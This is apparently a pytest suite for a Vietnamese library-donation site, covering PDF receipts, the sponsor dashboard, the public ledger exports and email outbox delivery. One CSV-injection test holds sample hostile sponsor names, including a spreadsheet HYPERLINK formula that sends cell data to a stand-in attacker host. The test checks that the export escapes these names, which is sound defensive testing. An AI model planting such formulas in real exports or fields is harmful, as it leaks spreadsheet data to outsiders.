"""Receipts and confirmation records (PDF), the sponsor's dashboard, the public ledger (page, CSV,
JSON) and the outbox: on real SQLite and PostgreSQL, with donations built by the services."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import logging
import os
import re
import subprocess
import sys

from pypdf import PdfReader
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker, create_async_engine

from app.auth.models import Role, SponsorType, User
from app.geography.models import Commune
from app.i18n import format_vnd
from app.outbox import LogSender, OutboxMessage, deliver_pending
from app.settings import ROOT
from donations import services
from donations.models import (
    Delivery,
    Pledge,
    PledgeKind,
    PledgeStatus,
    Target,
)
from donations.schemas import PledgeIn
from tests.conftest import TEST_SECRET, settings_for
from tests.support import MUONG_LA, PASSWORD, flat, make_library, make_need, make_user, post_form, sign_in

ISSUER = "Sở Văn hóa, Thể thao và Du lịch tỉnh Sơn La"
ORG = "Công ty CP Sách Tây Bắc"
TAX_CODE = "0101234567"


# --- factories ------------------------------------------------------------------------------------


async def sponsor(db: AsyncSession, email: str, name: str, *, organisation: bool = False) -> User:
    extra = (
        {"sponsor_type": SponsorType.ORGANISATION, "organisation_name": ORG, "tax_code": TAX_CODE}
        if organisation else {"sponsor_type": SponsorType.INDIVIDUAL}
    )
    return await make_user(db, Role.SPONSOR, email=email, full_name=name, **extra)


async def money(db: AsyncSession, who: User, amount: int, *, commune: int | None = MUONG_LA,
                anonymous: bool = False, pay: bool = True) -> Pledge:
    data = PledgeIn(kind=PledgeKind.MONEY, target=Target.COMMUNE if commune else Target.POOL,
                    commune_code=commune, amount=amount, anonymous=anonymous)
    pledge = await services.create_pledge(db, who, data, settings_for(""))
    if pay:
        payment = await services.new_payment(db, pledge, "vietqr")
        await services.confirm_payment(db, payment)
    return pledge


async def books(db: AsyncSession, who: User, officer: User, need_id: int, quantity: int, *,
                receive: bool = True) -> Pledge:
    data = PledgeIn(kind=PledgeKind.BOOKS, target=Target.NEED, need_id=need_id, quantity=quantity,
                    delivery=Delivery.TO_COMMUNE)
    pledge = await services.create_pledge(db, who, data, settings_for(""))
    if receive:
        await services.receive_in_kind(db, officer, pledge)
    return pledge


async def with_payments(db: AsyncSession, pledge: Pledge) -> Pledge:
    return await services.get_pledge(db, pledge.reference)


def pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF-")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    return " ".join(text.replace("\xa0", " ").split())


# --- receipts and confirmation records ------------------------------------------------------------


async def test_money_receipt_is_a_pdf_with_number_sponsor_and_amount(client, db) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    pledge = await with_payments(db, await money(db, giver, 1_500_000))
    number = services.confirmed_payment(pledge).receipt_number  # type: ignore[union-attr]
    await db.commit()
    await sign_in(client, "an@example.vn")

    response = await client.get(f"/pledges/{pledge.reference}/receipt.pdf")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    text = pdf_text(response.content)
    assert number and number in text
    assert "Nguyễn Văn An" in text
    assert flat(format_vnd(1_500_000)) == "1.500.000 ₫" and "1.500.000 ₫" in text
    assert ISSUER.upper() in text.upper()
    assert pledge.reference in text and "Mường La" in text


async def test_in_kind_receipt_is_numbered_from_the_reference(client, db) -> None:
    officer = await make_user(db, Role.OFFICER, email="canbo@example.vn")
    giver = await sponsor(db, "binh@example.vn", "Trần Thị Bình")
    need = await make_need(db, await make_library(db), quantity=40, unit_value=35_000)
    pledge = await books(db, giver, officer, need.id, 12)
    await db.commit()
    await sign_in(client, "binh@example.vn")

    response = await client.get(f"/pledges/{pledge.reference}/receipt.pdf")
    assert response.status_code == 200
    text = pdf_text(response.content)
    assert f"GLG-IK-{pledge.reference}" in text
    assert "Trần Thị Bình" in text and "Thư viện Mường La" in text
    assert "12 ×" in text and "35.000 ₫" in text and "420.000 ₫" in text


async def test_receipts_only_for_confirmed_pledges_and_their_own_sponsor(client, db) -> None:
    officer = await make_user(db, Role.OFFICER, email="canbo@example.vn")
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    await sponsor(db, "other@example.vn", "Người Khác")
    paid = await money(db, giver, 500_000)
    unpaid = await money(db, giver, 700_000, pay=False)
    await db.commit()

    anonymous_visitor = await client.get(f"/pledges/{paid.reference}/receipt.pdf")
    assert anonymous_visitor.status_code == 303
    assert "/login" in anonymous_visitor.headers["location"]

    await sign_in(client, "other@example.vn")
    assert (await client.get(f"/pledges/{paid.reference}/receipt.pdf")).status_code == 404
    await client.post("/logout", headers={"x-csrftoken": client.cookies["csrftoken"]})

    await sign_in(client, "an@example.vn")
    assert (await client.get(f"/pledges/{unpaid.reference}/receipt.pdf")).status_code == 404
    assert (await client.get("/pledges/GLGNOSUCH000/receipt.pdf")).status_code == 404
    # An individual has no confirmation record to file.
    assert (await client.get(f"/pledges/{paid.reference}/confirmation.pdf")).status_code == 404
    await client.post("/logout", headers={"x-csrftoken": client.cookies["csrftoken"]})

    await sign_in(client, officer.email)
    assert (await client.get(f"/pledges/{paid.reference}/receipt.pdf")).status_code == 200


async def test_refunded_donation_has_no_receipt(client, db) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    pledge = await with_payments(db, await money(db, giver, 900_000))
    await services.record_refund(db, None, services.confirmed_payment(pledge), "duplicate")  # type: ignore[arg-type]
    await db.commit()
    await sign_in(client, "an@example.vn")
    assert (await client.get(f"/pledges/{pledge.reference}/receipt.pdf")).status_code == 404


async def test_enterprise_confirmation_record_has_both_parties_and_tax_code(client, db) -> None:
    officer = await make_user(db, Role.OFFICER, email="canbo@example.vn")
    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    need = await make_need(db, await make_library(db), quantity=50, unit_value=40_000)
    gift = await books(db, company, officer, need.id, 20)
    cash = await with_payments(db, await money(db, company, 25_000_000, commune=None))
    number = services.confirmed_payment(cash).receipt_number  # type: ignore[union-attr]
    await db.commit()
    await sign_in(client, "ketoan@sachtaybac.vn")

    response = await client.get(f"/pledges/{cash.reference}/confirmation.pdf")
    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    text = pdf_text(response.content)
    assert "BIÊN BẢN XÁC NHẬN TÀI TRỢ" in text.upper()
    assert ORG in text and TAX_CODE in text and "Lê Minh Châu" in text
    assert ISSUER.upper() in text.upper()
    assert number in text and "25.000.000 ₫" in text
    assert f"GLG-XN-{cash.reference}" in text

    in_kind = pdf_text((await client.get(f"/pledges/{gift.reference}/confirmation.pdf")).content)
    assert TAX_CODE in in_kind and "20 ×" in in_kind and "800.000 ₫" in in_kind

    receipt = pdf_text((await client.get(f"/pledges/{cash.reference}/receipt.pdf")).content)
    assert ORG in receipt and TAX_CODE in receipt


async def _brought_to_the_library(client, db, quantity: int, received: int) -> Pledge:  # type: ignore[no-untyped-def]
    """An organisation pledges books to a need and brings them to the library itself; its
    librarian confirms how many arrived (fewer, with a note, when some never came)."""
    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    library = await make_library(db)
    need = await make_need(db, library, quantity=50, unit_value=35_000)
    librarian = await make_user(db, Role.LIBRARIAN, email="thuthu@muongla.vn", library_id=library.id)
    data = PledgeIn(kind=PledgeKind.BOOKS, target=Target.NEED, need_id=need.id, quantity=quantity,
                    delivery=Delivery.TO_COMMUNE)
    gift = await services.create_pledge(db, company, data, settings_for(""))
    await db.commit()
    await sign_in(client, librarian.email)
    response = await client.post(f"/library/pledges/{gift.reference}/receive",
                                 data={"quantity": str(received), "note": "Nhà tài trợ mang thiếu sách.",
                                       "_csrf_token": client.cookies["csrftoken"]},
                                 files={"photo": ("", b"", "application/octet-stream")})
    assert response.status_code == 303, response.text
    await client.post("/logout", headers={"x-csrftoken": client.cookies["csrftoken"]})
    await sign_in(client, "ketoan@sachtaybac.vn")
    return gift


async def test_receipt_of_goods_brought_to_the_library_states_what_arrived(client, db) -> None:
    gift = await _brought_to_the_library(client, db, quantity=10, received=6)
    for document in ("receipt", "confirmation"):
        response = await client.get(f"/pledges/{gift.reference}/{document}.pdf")
        assert response.status_code == 200
        text = pdf_text(response.content)
        # 6 books arrived, not the 10 pledged: the tax record must not state 350.000 ₫.
        assert "6 × 35.000 ₫ = 210.000 ₫" in text, text
        assert "10 ×" not in text and "350.000 ₫" not in text
    ledger = (await client.get("/api/v1/ledger")).json()
    assert next(row for row in ledger["items"] if row["reference"] == gift.reference)["value"] == 210_000


async def test_goods_that_never_arrived_get_no_receipt(client, db) -> None:
    gift = await _brought_to_the_library(client, db, quantity=4, received=0)
    assert (await client.get(f"/pledges/{gift.reference}/receipt.pdf")).status_code == 404
    assert (await client.get(f"/pledges/{gift.reference}/confirmation.pdf")).status_code == 404
    page = await client.get("/account/pledges")
    assert gift.reference in page.text and f"/pledges/{gift.reference}/receipt.pdf" not in page.text


async def test_confirmation_record_says_its_date_once(client, db) -> None:
    """"Lập ngày ngày 26 tháng 11 năm 2026" on a record an enterprise files: the administrative date
    already says "ngày"."""
    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    cash = await money(db, company, 2_000_000)
    await db.commit()
    await sign_in(client, "ketoan@sachtaybac.vn")
    text = pdf_text((await client.get(f"/pledges/{cash.reference}/confirmation.pdf")).content)
    assert "ngày ngày" not in text.lower() and re.search(r"Lập ngày \d\d tháng \d\d? năm \d{4}", text), text


async def test_an_organisations_documents_carry_its_address(client, db) -> None:
    """An enterprise files the record for tax with its name, tax code and address."""
    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    company.address = "Số 8 đường Tô Hiệu, phường Tô Hiệu, tỉnh Sơn La"
    cash = await money(db, company, 2_000_000)
    await db.commit()
    await sign_in(client, "ketoan@sachtaybac.vn")
    for document in ("receipt", "confirmation"):
        text = pdf_text((await client.get(f"/pledges/{cash.reference}/{document}.pdf")).content)
        assert "Địa chỉ Số 8 đường Tô Hiệu, phường Tô Hiệu, tỉnh Sơn La" in text, (document, text)


async def test_documents_follow_the_readers_language(client, db) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    pledge = await money(db, giver, 1_500_000)
    await db.commit()
    await sign_in(client, "an@example.vn")
    await client.get("/lang/en")
    text = pdf_text((await client.get(f"/pledges/{pledge.reference}/receipt.pdf")).content)
    assert "DONATION RECEIPT" in text.upper() and "₫1,500,000" in text
    assert "Department of Culture, Sports and Tourism of Sơn La province".upper() in text.upper()


# --- the sponsor's dashboard ----------------------------------------------------------------------


async def test_dashboard_lists_pledges_newest_first_with_timeline_and_documents(client, db) -> None:
    officer = await make_user(db, Role.OFFICER, email="canbo@example.vn")
    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    other = await sponsor(db, "other@example.vn", "Người Khác")
    need = await make_need(db, await make_library(db), quantity=50, unit_value=40_000)
    first = await with_payments(db, await money(db, company, 2_000_000))
    second = await books(db, company, officer, need.id, 5)
    third = await money(db, company, 300_000, pay=False, commune=None)
    theirs = await money(db, other, 100_000)
    await db.execute(update(Pledge).where(Pledge.id == first.id)
                     .values(created_at=dt.datetime(2026, 1, 2, tzinfo=dt.UTC)))
    await db.execute(update(Pledge).where(Pledge.id == second.id)
                     .values(created_at=dt.datetime(2026, 2, 2, tzinfo=dt.UTC)))
    number = services.confirmed_payment(first).receipt_number  # type: ignore[union-attr]
    await db.commit()
    await sign_in(client, "ketoan@sachtaybac.vn")

    response = await client.get("/account/pledges")
    assert response.status_code == 200
    page = flat(response.text)
    positions = [page.index(p.reference) for p in (third, second, first)]
    assert positions == sorted(positions)
    assert theirs.reference not in page
    # Where each went, and the timeline from the audit trail.
    assert "Mường La" in page and "Thư viện Mường La" in page and "Quỹ chung của tỉnh" in page
    first_card = page[page.index(f'id="pledge-{first.reference}"'):][:3000]
    for step in ("Đã ghi nhận cam kết", "Chờ thanh toán", "Bắt đầu thanh toán", "Đã thanh toán"):
        assert step in first_card
    assert number in first_card
    second_card = page[page.index(f'id="pledge-{second.reference}"'):][:3000]
    for step in ("Chờ giao hàng", "Đã nhận", "Đã phân bổ"):
        assert step in second_card
    # Documents: for confirmed pledges only.
    assert f"/pledges/{first.reference}/receipt.pdf" in page
    assert f"/pledges/{first.reference}/confirmation.pdf" in page
    assert f"/pledges/{second.reference}/receipt.pdf" in page
    assert f"/pledges/{third.reference}/receipt.pdf" not in page


async def test_dashboard_leads_back_to_each_pledge_to_pay_or_cancel_it(client, db) -> None:
    """A sponsor who left the payment page finds the pledge again from "My pledges"."""
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    unpaid = await money(db, giver, 300_000, pay=False, commune=None)
    paid = await money(db, giver, 500_000)
    await db.commit()
    await sign_in(client, "an@example.vn")
    await client.get("/lang/en")
    page = (await client.get("/account/pledges")).text
    card = page[page.index(f'id="pledge-{unpaid.reference}"'):]
    card = card[:card.index("</li>")]
    assert f'href="/pledges/{unpaid.reference}"' in card and "Pay or cancel" in card
    card = page[page.index(f'id="pledge-{paid.reference}"'):]
    card = card[:card.index("</li>")]
    assert f'href="/pledges/{paid.reference}"' in card and "Pay or cancel" not in card
    # The page it leads to offers the ways to pay.
    pledge_page = (await client.get(f"/pledges/{unpaid.reference}")).text
    assert f'action="/pledges/{unpaid.reference}/pay/bank_transfer"' in pledge_page


async def test_dashboard_timeline_names_methods_and_reasons_in_the_readers_language(client, db) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    pledge = await money(db, giver, 300_000, pay=False)
    await db.commit()
    await sign_in(client, "an@example.vn")
    for _ in range(2):  # choosing a method again cancels the open attempt
        response = await post_form(client, f"/pledges/{pledge.reference}/pay/bank_transfer", {})
        assert response.status_code == 303
    page = flat((await client.get("/account/pledges")).text)
    card = page[page.index(f'id="pledge-{pledge.reference}"'):]
    assert "Bắt đầu thanh toán <small>Chuyển khoản (VietQR)</small>" in card
    assert "Đã hủy thanh toán <small>đã chọn cách thanh toán khác</small>" in card
    timeline = card.split('<ol class="timeline">')[1].split("</ol>")[0]
    assert timeline.count("Chờ thanh toán") == 1  # the pledge's step, not again for each attempt
    assert "bank_transfer" not in card.split('action="')[0] and "another method chosen" not in card
    await client.get("/lang/en")
    card = flat((await client.get("/account/pledges")).text)
    assert "Payment started <small>Bank transfer (VietQR)</small>" in card
    assert "Payment canceled <small>another payment method was chosen</small>" in card


async def test_dashboard_pages_a_busy_sponsors_pledges(client, db) -> None:
    """A card a pledge, with its timeline and deliveries: a sponsor who has given often gets them
    20 a page (a light page on a slow link), newest first, every one of them on some page."""
    from donations.dashboard import PLEDGES_PER_PAGE

    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    pledges = [await money(db, company, 100_000 + i * 1_000, pay=i % 3 > 0) for i in range(2 * PLEDGES_PER_PAGE + 5)]
    await db.commit()
    await sign_in(client, "ketoan@sachtaybac.vn")
    await client.get("/lang/en")

    seen: list[str] = []
    for number in (1, 2, 3):
        response = await client.get("/account/pledges", params={"page": number})
        page = flat(response.text)
        cards = re.findall(r'id="pledge-([A-Z0-9]+)"', response.text)
        assert len(cards) == (PLEDGES_PER_PAGE if number < 3 else 5), number
        assert f"{number} / 3" in page
        first = (number - 1) * PLEDGES_PER_PAGE + 1
        assert f"{first}–{first + len(cards) - 1} of 45, newest first" in page
        assert ('rel="prev"' in response.text) == (number > 1) and ('rel="next"' in response.text) == (number < 3)
        seen += cards
    assert seen == [p.reference for p in reversed(pledges)]  # newest first, each once
    # A page past the last is the last one; anything else not a page number is the first.
    assert re.findall(r'id="pledge-(\w+)"', (await client.get("/account/pledges?page=99")).text) == seen[-5:]
    assert re.findall(r'id="pledge-(\w+)"', (await client.get("/account/pledges?page=x")).text) == seen[:20]


async def test_dashboard_is_for_sponsors(client, db) -> None:
    await make_user(db, Role.LIBRARIAN, email="thuthu@example.vn")
    await db.commit()
    assert (await client.get("/account/pledges")).status_code == 303
    await sign_in(client, "thuthu@example.vn")
    assert (await client.get("/account/pledges")).status_code == 403


# --- the public ledger ----------------------------------------------------------------------------


async def _ledger_data(db: AsyncSession) -> dict[str, Pledge]:
    officer = await make_user(db, Role.OFFICER, email="canbo@example.vn")
    an = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    secret = await sponsor(db, "secret@example.vn", "Đỗ Bí Mật")
    company = await sponsor(db, "ketoan@sachtaybac.vn", "Lê Minh Châu", organisation=True)
    need = await make_need(db, await make_library(db), quantity=50, unit_value=40_000)
    other_commune = await db.scalar(
        select(Commune.code).where(Commune.province_code == 14, Commune.code != MUONG_LA)
        .order_by(Commune.code).limit(1))
    pledges = {
        "named": await money(db, an, 1_000_000),
        "anonymous": await money(db, secret, 2_000_000, anonymous=True),
        "pool": await money(db, company, 5_000_000, commune=None),
        "books": await books(db, company, officer, need.id, 10),
        "elsewhere": await money(db, an, 700_000, commune=other_commune),
        "refunded": await with_payments(db, await money(db, an, 3_000_000)),
        "unpaid": await money(db, secret, 9_000_000, pay=False),
        "not_received": await books(db, an, officer, need.id, 3, receive=False),
    }
    await services.record_refund(
        db, None, services.confirmed_payment(pledges["refunded"]), "sponsor asked")  # type: ignore[arg-type]
    # One gift confirmed at 01:00 on 1 February in Vietnam (31 January, 18:00 UTC).
    await db.execute(update(Pledge).where(Pledge.id == pledges["elsewhere"].id)
                     .values(confirmed_at=dt.datetime(2026, 1, 31, 18, 0, tzinfo=dt.UTC)))
    await db.execute(update(Pledge).where(Pledge.id == pledges["pool"].id)
                     .values(confirmed_at=dt.datetime(2026, 1, 31, 16, 0, tzinfo=dt.UTC)))
    await db.commit()
    return pledges


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


async def test_ledger_lists_confirmed_donations_and_never_names_the_anonymous(client, db) -> None:
    pledges = await _ledger_data(db)
    page = await client.get("/ledger")
    assert page.status_code == 200
    text = flat(page.text)
    for key in ("named", "anonymous", "pool", "books", "elsewhere", "refunded"):
        assert pledges[key].reference not in text  # references stay private on the page
    assert "Nguyễn Văn An" in text and ORG in text and "Ẩn danh" in text
    assert "Quỹ chung của tỉnh" in text and "Thư viện Mường La" in text
    assert "10 × " in text and "400.000 ₫" in text
    assert "Đã hoàn tiền" in text
    assert "9.000.000 ₫" not in text  # the unpaid pledge

    api = (await client.get("/api/v1/ledger")).json()
    csv_rows = _csv_rows((await client.get("/ledger?format=csv")).content)
    exported = "\n".join(map(",".join, csv_rows))
    for body in (page.text, json.dumps(api, ensure_ascii=False), exported):
        assert "Đỗ Bí Mật" not in body and "secret@example.vn" not in body

    references = {pledges[k].reference for k in
                  ("named", "anonymous", "pool", "books", "elsewhere", "refunded")}
    assert api["total"] == 6 and {i["reference"] for i in api["items"]} == references
    anonymous = next(i for i in api["items"] if i["reference"] == pledges["anonymous"].reference)
    assert anonymous["sponsor"] is None and anonymous["anonymous"] is True
    books_row = next(i for i in api["items"] if i["reference"] == pledges["books"].reference)
    assert (books_row["quantity"], books_row["unit_value"]) == (10, 40_000)
    assert books_row["value"] == 400_000
    assert books_row["library"] == "Thư viện Mường La" and books_row["status"] == "allocated"

    # The CSV holds the same rows, in the same order, with whole-number amounts.
    header, *body = csv_rows
    assert header[0] == "Mã cam kết" and len(header) == len(api["items"][0])
    assert [r[0] for r in body] == [i["reference"] for i in api["items"]]
    for row, item in zip(body, api["items"], strict=True):
        assert row[8] == str(item["value"])
        assert row[2] == (item["sponsor"] or "Ẩn danh")
        assert row[12] == item["status"]


async def test_ledger_csv_keeps_a_sponsors_formula_as_text(client, db) -> None:
    """A sponsor names themselves (registering is open to anyone) as a spreadsheet formula: the
    public ledger's CSV, which offices open in Excel, keeps it as text (OWASP "CSV injection"), as
    the honor roll's lists do; the page and the JSON give the name as it is."""
    names = ['=HYPERLINK("https://evil.example/?"&A1,"Xem")', "+84 912 345 678", "-2+3", "@SUM(1+1)"]
    for i, name in enumerate(names):
        response = await post_form(client, "/register", {
            "sponsor_type": "individual", "full_name": name, "email": f"s{i}@example.vn", "password": PASSWORD})
        assert response.status_code == 303, response.text
        client.cookies.clear()
    for i, name in enumerate(names):
        who = await db.scalar(select(User).where(User.email == f"s{i}@example.vn"))
        assert who is not None and who.full_name == name
        await money(db, who, 100_000 * (i + 1))
    await db.commit()
    rows = _csv_rows((await client.get("/ledger?format=csv")).content)[1:]
    exported = {row[2] for row in rows}
    assert exported == {"'" + name for name in names}
    assert all(row[8].isdigit() for row in rows)  # amounts stay numbers
    api = (await client.get("/api/v1/ledger")).json()
    assert {i["sponsor"] for i in api["items"]} == set(names)


async def test_ledger_totals_by_month_and_commune_match_the_rows(client, db) -> None:
    pledges = await _ledger_data(db)
    api = (await client.get("/api/v1/ledger")).json()
    given = [i for i in api["items"] if i["status"] != PledgeStatus.REFUNDED]
    assert api["totals"]["value"] == sum(i["value"] for i in given) == 1_000_000 + 2_000_000 + \
        5_000_000 + 400_000 + 700_000

    by_month: dict[str, int] = {}
    by_commune: dict[int | None, int] = {}
    for item in given:
        by_month[item["date"][:7]] = by_month.get(item["date"][:7], 0) + item["value"]
        by_commune[item["commune_code"]] = by_commune.get(item["commune_code"], 0) + item["value"]
    assert {t["month"]: t["value"] for t in api["totals"]["by_month"]} == by_month
    assert {t["commune_code"]: t["value"] for t in api["totals"]["by_commune"]} == by_commune
    # Vietnam's calendar: 31 Jan 18:00 UTC is February; 16:00 UTC is still January.
    assert by_month["2026-02"] == 700_000 and by_month["2026-01"] == 5_000_000
    assert by_commune[None] == 5_000_000 and by_commune[MUONG_LA] == 3_400_000

    # Filters: by month, by commune, the pool; and the totals follow the filters.
    feb = (await client.get("/api/v1/ledger?month=2026-02")).json()
    assert [i["reference"] for i in feb["items"]] == [pledges["elsewhere"].reference]
    assert feb["totals"]["value"] == 700_000
    muong_la = (await client.get(f"/api/v1/ledger?commune={MUONG_LA}")).json()
    assert muong_la["total"] == 4 and muong_la["totals"]["value"] == 3_400_000
    pool = (await client.get("/api/v1/ledger?commune=pool")).json()
    assert [i["reference"] for i in pool["items"]] == [pledges["pool"].reference]
    pool_csv = _csv_rows((await client.get("/ledger?commune=pool&format=csv")).content)
    assert [r[0] for r in pool_csv[1:]] == [pledges["pool"].reference]
    assert (await client.get("/api/v1/ledger?month=2026-13")).status_code == 422

    # The page shows the same totals.
    page = flat((await client.get("/ledger?month=2026-02")).text)
    assert "700.000 ₫" in page and "2026-02" in page


async def test_ledger_pages_and_htmx_fragment(client, db) -> None:
    await _ledger_data(db)
    first = (await client.get("/api/v1/ledger?per_page=4")).json()
    second = (await client.get("/api/v1/ledger?per_page=4&page=2")).json()
    assert first["total"] == second["total"] == 6
    assert len(first["items"]) == 4 and len(second["items"]) == 2
    assert not {i["reference"] for i in first["items"]} & {i["reference"] for i in second["items"]}
    assert first["totals"] == second["totals"]  # totals are over every page

    page = await client.get("/ledger?per_page=4&page=2")
    assert "2 / 2" in page.text and "<html" in page.text
    fragment = await client.get("/ledger?per_page=4", headers={"HX-Request": "true"})
    assert fragment.status_code == 200 and "<html" not in fragment.text
    assert "1 / 2" in fragment.text


async def test_routes_are_in_the_openapi_document(client) -> None:
    paths = (await client.get("/schema/openapi.json")).json()["paths"]
    assert {"/api/v1/ledger", "/ledger", "/account/pledges", "/pledges/{reference}/receipt.pdf",
            "/pledges/{reference}/confirmation.pdf"} <= set(paths)


# --- the outbox -----------------------------------------------------------------------------------


class CollectingSender:
    """A real sender that keeps what it sent (like an in-memory mail backend)."""

    def __init__(self, pause: float = 0.0) -> None:
        self.sent: list[int] = []
        self.pause = pause

    async def send(self, message: OutboxMessage) -> None:
        await asyncio.sleep(self.pause)
        self.sent.append(message.id)


async def test_outbox_sends_each_message_once_oldest_first(db, caplog) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    await money(db, giver, 1_000_000)  # pledge received + payment confirmed
    await money(db, giver, 2_000_000, pay=False)  # pledge received
    await db.commit()
    waiting = list(await db.scalars(select(OutboxMessage.id).order_by(OutboxMessage.id)))
    assert len(waiting) == 3

    sender = CollectingSender()
    assert await deliver_pending(db, sender) == 3
    await db.commit()
    assert sender.sent == waiting
    assert await deliver_pending(db, sender) == 0
    assert sender.sent == waiting
    assert all(m.sent_at for m in await db.scalars(select(OutboxMessage)))

    await money(db, giver, 3_000_000, pay=False)
    await db.commit()
    with caplog.at_level(logging.INFO, logger="app.outbox"):
        assert await deliver_pending(db, LogSender()) == 1
    await db.commit()
    lines = [json.loads(r.getMessage()) for r in caplog.records if r.name == "app.outbox"]
    assert len(lines) == 1 and lines[0]["topic"] == "pledge.received"
    assert lines[0]["recipient_id"] == giver.id


async def test_concurrent_deliveries_never_send_a_message_twice(clean_backend, db) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    for amount in range(1, 11):
        await money(db, giver, amount * 100_000, pay=False)
    await db.commit()

    engine = create_async_engine(clean_backend.url)
    senders = [CollectingSender(pause=0.01), CollectingSender(pause=0.01)]

    async def run(sender: CollectingSender) -> int:
        async with async_sessionmaker(engine, expire_on_commit=False)() as session:
            sent = await deliver_pending(session, sender, limit=6)
            await session.commit()
            return sent

    try:
        if clean_backend.name == "postgres":  # row locks: both run at once, skipping each other's
            counts = await asyncio.gather(*(run(s) for s in senders))
        else:  # SQLite serialises writers: one after the other
            counts = [await run(s) for s in senders]
    finally:
        await engine.dispose()
    assert sum(counts) == 10
    assert not set(senders[0].sent) & set(senders[1].sent)
    assert len(senders[0].sent + senders[1].sent) == 10


def _send_outbox(url: str, **settings: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "DATABASE_URL": url, "ENVIRONMENT": "test", "SECRET_KEY": TEST_SECRET, **settings}
    return subprocess.run([sys.executable, "-m", "donations.cli"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)


async def test_send_outbox_command(clean_backend, db) -> None:
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    await money(db, giver, 1_000_000)
    await db.commit()
    result = _send_outbox(clean_backend.url)
    assert result.returncode == 0, result.stderr
    assert "2 message(s) sent." in result.stdout
    assert '"topic": "payment.confirmed"' in result.stderr + result.stdout
    db.expire_all()
    assert all(m.sent_at for m in await db.scalars(select(OutboxMessage)))


async def test_send_outbox_mails_each_message_to_its_recipient(clean_backend, smtp_server, db) -> None:
    """With SMTP_HOST set, the job sends each waiting message by e-mail (to a real SMTP server on
    loopback), in Vietnamese as written, and stamps it sent."""
    inbox, port = smtp_server
    giver = await sponsor(db, "an@example.vn", "Nguyễn Văn An")
    await money(db, giver, 1_000_000)
    await db.commit()
    waiting = {m.subject for m in await db.scalars(select(OutboxMessage))}
    result = _send_outbox(clean_backend.url, SMTP_HOST="127.0.0.1", SMTP_PORT=str(port), SMTP_SECURITY="none",
                          MAIL_FROM="thuvien@sonla.gov.vn")
    assert result.returncode == 0, result.stderr
    assert "2 message(s) sent." in result.stdout
    mails = inbox.to("an@example.vn")
    assert {m["Subject"] for m in mails} == waiting and len(mails) == 2
    assert all("thuvien@sonla.gov.vn" in m["From"] for m in mails)
    db.expire_all()
    assert all(m.sent_at for m in await db.scalars(select(OutboxMessage)))
